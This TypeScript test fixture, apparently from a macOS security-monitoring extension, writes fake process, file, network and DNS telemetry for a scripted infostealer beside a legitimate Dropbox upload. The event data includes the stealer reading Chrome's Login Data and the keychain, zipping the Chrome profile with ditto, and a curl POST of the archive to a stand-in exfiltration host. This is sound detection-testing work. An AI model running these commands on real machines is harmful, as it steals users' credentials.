/**
 * A scripted macOS host for the fake darwin tools (test/fake-tools/README.md): an infostealer and a
 * Dropbox upload, side by side.
 *
 * - Stealer: an unsigned app from ~/Downloads reads Chrome's Login Data and the login keychain, runs
 *   `ditto -c -k` into /tmp (the archive lands in /private/tmp), then runs Apple's curl to POST 15 MiB
 *   over 443 to a host name the router's resolver answered. ditto has exited by the time ps samples; curl is
 *   still uploading.
 * - Dropbox: Dropbox.app (Developer ID, team G7HH3F8CAK) reads a document and uploads 15 MiB over 443 to
 *   content.dropboxapi.com.
 * - DNS: the fake tcpdump's capture holds mDNSResponder's queries and the router's answers for both names (scutil lists the router on en0).
 *
 * Times are relative to `nowMs` (events older than events.retention would be pruned). Returns the
 * scenario directory for OUTFLOW_FAKE_SCENARIO.
 *
 * A real extension process plays it, and takes the file events of its own pid and of its children for its own
 * (EsloggerPipeline `self`): the processes that do file events here, and their parents, have pids beyond any real
 * one (≥ 2^22, Linux's PID_MAX_LIMIT; launchd's 1 aside), so no pid the OS gives the extension can match one
 * (test/e2e/fixture-pids.test.ts). curl does none: its pid stays an ordinary one.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
// Plain-JS builders shared with the fake eslogger: one definition of a realistic line.
import { body, esLine } from '../../extension/collectors/eslogger/testing/es-lines.mjs';
import { buildAnswer, buildQuery, TYPE } from '../../extension/tables/process_network_flows/dns-names/testing/dns-wire.js';
import { appleEpbOptions, EPB_INBOUND, EPB_OUTBOUND, ethernet, ETHERTYPE, ipv4, PcapngWriter, udp } from '../../extension/tables/process_network_flows/dns-names/testing/frames.js';

export const STEALER = {
  pid: 4_208_101,
  path: '/Users/dana/Downloads/InvoiceViewer.app/Contents/MacOS/InvoiceViewer',
  cdhash: '5EA1E55C0FFEE0DDBA11AD0BE5EED5CAFEF00D42',
};
export const DITTO = { pid: 4_208_103, path: '/usr/bin/ditto' };
export const CURL = { pid: 8104, path: '/usr/bin/curl' };
export const DROPBOX = { pid: 4_205_100, path: '/Applications/Dropbox.app/Contents/MacOS/Dropbox' };
export const EXFIL = { remote: '203.0.113.77', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 4_096, name: 'drop.quiet-harbor.io' };
export const DROPBOX_UPLOAD = { remote: '162.125.1.20', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 9_000, name: 'content.dropboxapi.com' };
const ROUTER = '10.20.30.1';
export const LOGIN_DATA = '/Users/dana/Library/Application Support/Google/Chrome/Default/Login Data';
export const KEYCHAIN = '/Users/dana/Library/Keychains/login.keychain-db';

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** `ps -o lstart=` under LC_ALL=C TZ=UTC: `Www Mmm dd HH:MM:SS YYYY`, day space-padded. */
export function lstart(ms: number): string {
  const d = new Date(ms);
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${d.getUTCFullYear()}`;
}

/** One `ps -axww -o pid=,ppid=,uid=,lstart=,comm=` row: numbers right-aligned in 5 columns, a longer one overflowing its column. */
export function psRow(pid: number, ppid: number, uid: number, startMs: number, comm: string): string {
  const n = (v: number) => String(v).padStart(5);
  return `${n(pid)} ${n(ppid)} ${n(uid)} ${lstart(startMs)} ${comm}`;
}

const CURL_DISPLAY = [
  'Executable=/usr/bin/curl',
  'Identifier=com.apple.curl',
  'Format=Mach-O universal (x86_64 arm64e)',
  'CodeDirectory v=20400 size=2312 flags=0x0(none) hashes=61+7 location=embedded',
  'Platform identifier=15',
  'Hash type=sha256 size=32',
  'CDHash=9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d',
  'Signature size=4442',
  'Authority=Software Signing',
  'Authority=Apple Code Signing Certification Authority',
  'Authority=Apple Root CA',
  'Info.plist=not bound',
  'TeamIdentifier=not set',
  'Sealed Resources=none',
  'Internal requirements count=1 size=64',
  '',
].join('\n');

/** codesign's display of an Apple platform binary (curl's, renamed): what the fake codesign prints for `path`. */
export function appleToolDisplay(path: string, identifier: string): string {
  return CURL_DISPLAY.replaceAll('/usr/bin/curl', path).replace('com.apple.curl', identifier);
}

const DROPBOX_DISPLAY = [
  `Executable=${DROPBOX.path}`,
  'Identifier=com.getdropbox.dropbox',
  'Format=app bundle with Mach-O universal (x86_64 arm64)',
  'CodeDirectory v=20500 size=1780 flags=0x10000(runtime) hashes=45+7 location=embedded',
  'Hash type=sha256 size=32',
  'CDHash=0b1c2d3e4f5061728394a5b6c7d8e9f00b1c2d3e',
  'Signature size=9012',
  'Authority=Developer ID Application: Dropbox, Inc. (G7HH3F8CAK)',
  'Authority=Developer ID Certification Authority',
  'Authority=Apple Root CA',
  'Timestamp=Mar 3, 2026 at 09:00:00',
  'Info.plist entries=40',
  'TeamIdentifier=G7HH3F8CAK',
  'Runtime Version=14.0.0',
  'Sealed Resources version=2 rules=13 files=900',
  'Internal requirements count=1 size=220',
  '',
].join('\n');

/**
 * What Apple's tcpdump -i pktap,all writes for mDNSResponder's two lookups on en0: each query as sent and the
 * router's answer as received, with pktap's direction in epb_flags (an answer names only when it answers a query
 * this host sent).
 */
function dnsCapture(nowMs: number): Buffer {
  const w = new PcapngWriter();
  const ts = BigInt(nowMs - 25_000) * 1000n;
  w.shb().pib(412, 'mDNSResponder').idb(1, { opts: [w.option(2, 'en0')] });
  for (const [i, f] of [EXFIL, DROPBOX_UPLOAD].entries()) {
    const id = 0x3c00 + i;
    const query = ethernet(ETHERTYPE.IPV4, ipv4({ src: '10.20.30.41', dst: ROUTER, payload: udp({ srcPort: 53001 + i, dstPort: 53, payload: buildQuery(id, f.name, TYPE.A) }) }));
    w.epb(0, ts, query, { opts: appleEpbOptions(w, { pib: 0, direction: EPB_OUTBOUND }) });
    const dns = buildAnswer(id, f.name, f.remote, 60);
    const answer = ethernet(ETHERTYPE.IPV4, ipv4({ src: ROUTER, dst: '10.20.30.41', payload: udp({ srcPort: 53, dstPort: 53001 + i, payload: dns }) }));
    w.epb(0, ts, answer, { opts: appleEpbOptions(w, { pib: 0, direction: EPB_INBOUND }) });
  }
  return w.done();
}

/** One nettop sample (formats.md §2): a process row and its one TCP flow row for each process, on en0. */
export function nettopSample(procs: readonly { name: string; pid: number; localPort: number; flow: { remote: string; port: number; bytesIn: number; bytesOut: number } }[]): string {
  const rows = procs.flatMap(({ name, pid, localPort, flow: f }) => [
    `{time},${name}.${pid},,,${f.bytesIn},${f.bytesOut},0,0,0,,,,,,,,,,,,`,
    `{time},tcp4 10.20.30.41:${localPort}<->${f.remote}:${f.port},en0,Established,${f.bytesIn},${f.bytesOut},0,0,0,24.10 ms,131072,262144,BE,-,cubic,-,-,-,-,so,`,
  ]);
  return ['time,,interface,state,bytes_in,bytes_out,rx_dupe,rx_ooo,re-tx,rtt_avg,rcvsize,tx_win,tc_class,tc_mgt,cc_algo,P,C,R,W,arch,', ...rows, ''].join('\n');
}

export interface StealerScenario {
  dir: string;
  /** Unix seconds of each scripted step. */
  times: { stealerStart: number; loginData: number; keychain: number; ditto: number; curlStart: number; dropboxRead: number };
}

export function writeStealerScenario(dir: string, nowMs = Date.now()): StealerScenario {
  const s = Math.floor(nowMs / 1000) * 1000; // whole seconds: ps and eslogger start times agree exactly
  const at = (secondsAgo: number) => s - secondsAgo * 1000;
  const stealer = { pid: STEALER.pid, ppid: 1, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash, startMs: at(120), tty: null };
  const stealerPreExec = { ...stealer, path: '/usr/libexec/xpcproxy', platform: true, signingId: 'com.apple.xpc.proxy' };
  const ditto = { pid: DITTO.pid, ppid: STEALER.pid, path: DITTO.path, platform: true, signingId: 'com.apple.ditto', cdhash: 'DEADBEEF00112233445566778899AABBCCDDEEFF', startMs: at(40) };
  const curl = { pid: CURL.pid, ppid: STEALER.pid, path: CURL.path, platform: true, signingId: 'com.apple.curl', cdhash: '9E8D7C6B5A4F3E2D1C0B9A8F7E6D5C4B3A2F1E0D', startMs: at(20) };
  const dropbox = { pid: DROPBOX.pid, ppid: 1, path: DROPBOX.path, platform: false, signingId: 'com.getdropbox.dropbox', teamId: 'G7HH3F8CAK', cdhash: '0B1C2D3E4F5061728394A5B6C7D8E9F00B1C2D3E', startMs: at(3600) };
  let g = 500_000;
  type Proc = Parameters<typeof esLine>[0]['process'];
  const line = (kind: string, ms: number, process: Proc, b: object) => esLine({ kind, timeMs: ms, gseq: g++, process, body: b, version: 10 });
  const archiveArgs = ['ditto', '-c', '-k', '--keepParent', '/Users/dana/Library/Application Support/Google/Chrome/Default', '/tmp/out.zip'];
  const eslogger = [
    line('exec', at(120), stealerPreExec, body.exec(stealer, [STEALER.path], '/', 10)),
    line('open', at(45), stealer, body.open(LOGIN_DATA)),
    line('open', at(44), stealer, body.open(KEYCHAIN)),
    line('fork', at(40), stealer, body.fork({ ...ditto, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash }, 10)),
    line('exec', at(40) + 50, { ...ditto, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash }, body.exec(ditto, archiveArgs, '/Users/dana', 10)),
    line('create', at(39), ditto, body.createExisting('/private/tmp/out.zip')),
    line('write', at(39) + 10, ditto, body.write('/private/tmp/out.zip')),
    line('close', at(38), ditto, body.close('/private/tmp/out.zip', true)),
    line('exit', at(37), ditto, body.exit(0)),
    line('open', at(30), dropbox, body.open('/Users/dana/Documents/Q3 report.pdf')),
    line('fork', at(20), stealer, body.fork({ ...curl, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash }, 10)),
    line(
      'exec',
      at(20) + 50,
      { ...curl, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash },
      body.exec(curl, ['curl', '-s', '-X', 'POST', '-F', 'f=@/tmp/out.zip', `https://${EXFIL.name}/upload`], '/Users/dana', 10),
    ),
  ];

  mkdirSync(path.join(dir, 'nettop'), { recursive: true });
  writeFileSync(
    path.join(dir, 'nettop', '001.txt'),
    nettopSample([
      { name: 'curl', pid: CURL.pid, localPort: 50999, flow: EXFIL },
      { name: 'Dropbox', pid: DROPBOX.pid, localPort: 51200, flow: DROPBOX_UPLOAD },
    ]),
  );
  writeFileSync(
    path.join(dir, 'ps.txt'),
    [
      psRow(1, 0, 0, at(86_400), '/sbin/launchd'),
      psRow(DROPBOX.pid, 1, 501, dropbox.startMs, DROPBOX.path),
      psRow(STEALER.pid, 1, 501, stealer.startMs, STEALER.path),
      psRow(CURL.pid, STEALER.pid, 501, curl.startMs, CURL.path),
      '',
    ].join('\n'),
  );
  writeFileSync(
    path.join(dir, 'signing.json'),
    JSON.stringify(
      {
        // No `display`: the fake answers "code object is not signed at all", as codesign does.
        [STEALER.path]: {},
        '/Users/dana/Downloads/InvoiceViewer.app': { spctl: { exit: 3, stderr: '/Users/dana/Downloads/InvoiceViewer.app: rejected\nsource=no usable signature\n' } },
        [CURL.path]: { display: { stderr: CURL_DISPLAY } },
        [DITTO.path]: { display: { stderr: appleToolDisplay(DITTO.path, 'com.apple.ditto') } },
        [DROPBOX.path]: { display: { stderr: DROPBOX_DISPLAY } },
        '/Applications/Dropbox.app': { spctl: { exit: 0, stderr: '/Applications/Dropbox.app: accepted\nsource=Notarized Developer ID\norigin=Developer ID Application: Dropbox, Inc. (G7HH3F8CAK)\n' } },
        '/sbin/launchd': { display: { stderr: appleToolDisplay('/sbin/launchd', 'com.apple.xpc.launchd') } },
      },
      null,
      1,
    ),
  );
  writeFileSync(path.join(dir, 'eslogger.jsonl'), `${eslogger.join('\n')}\n`);
  writeFileSync(path.join(dir, 'tcpdump.pcapng'), dnsCapture(s));
  writeFileSync(path.join(dir, 'scutil-dns.txt'), `DNS configuration\n\nresolver #1\n  nameserver[0] : ${ROUTER}\n  if_index : 6 (en0)\n  flags    : Request A records\n`);
  const sec = (ms: number) => Math.floor(ms / 1000);
  return {
    dir,
    times: { stealerStart: sec(stealer.startMs), loginData: sec(at(45)), keychain: sec(at(44)), ditto: sec(at(40)), curlStart: sec(curl.startMs), dropboxRead: sec(at(30)) },
  };
}
